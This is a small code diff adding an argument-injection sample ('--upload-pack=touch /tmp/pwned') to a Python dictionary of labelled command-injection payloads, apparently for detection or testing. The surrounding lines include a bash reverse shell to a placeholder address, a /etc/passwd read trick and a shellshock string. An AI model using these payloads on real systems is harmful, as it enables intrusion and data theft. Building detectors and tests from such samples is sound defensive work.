@@ -74,6 +74,7 @@ EXAMPLES: dict[str, str] = {
     "cmdi-command-substitution": "$(hostname)",
     "cmdi-ifs-evasion": "cat${IFS}x",
     "cmdi-parameter-substring": "${PATH:0:1}etc${PATH:0:1}passwd",
+    "cmdi-argument-injection": "--upload-pack=touch /tmp/pwned",
     "cmdi-shellshock": "() { :; }; echo",
     "cmdi-shell-path": "/bin/bash",
     "cmdi-reverse-shell": "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
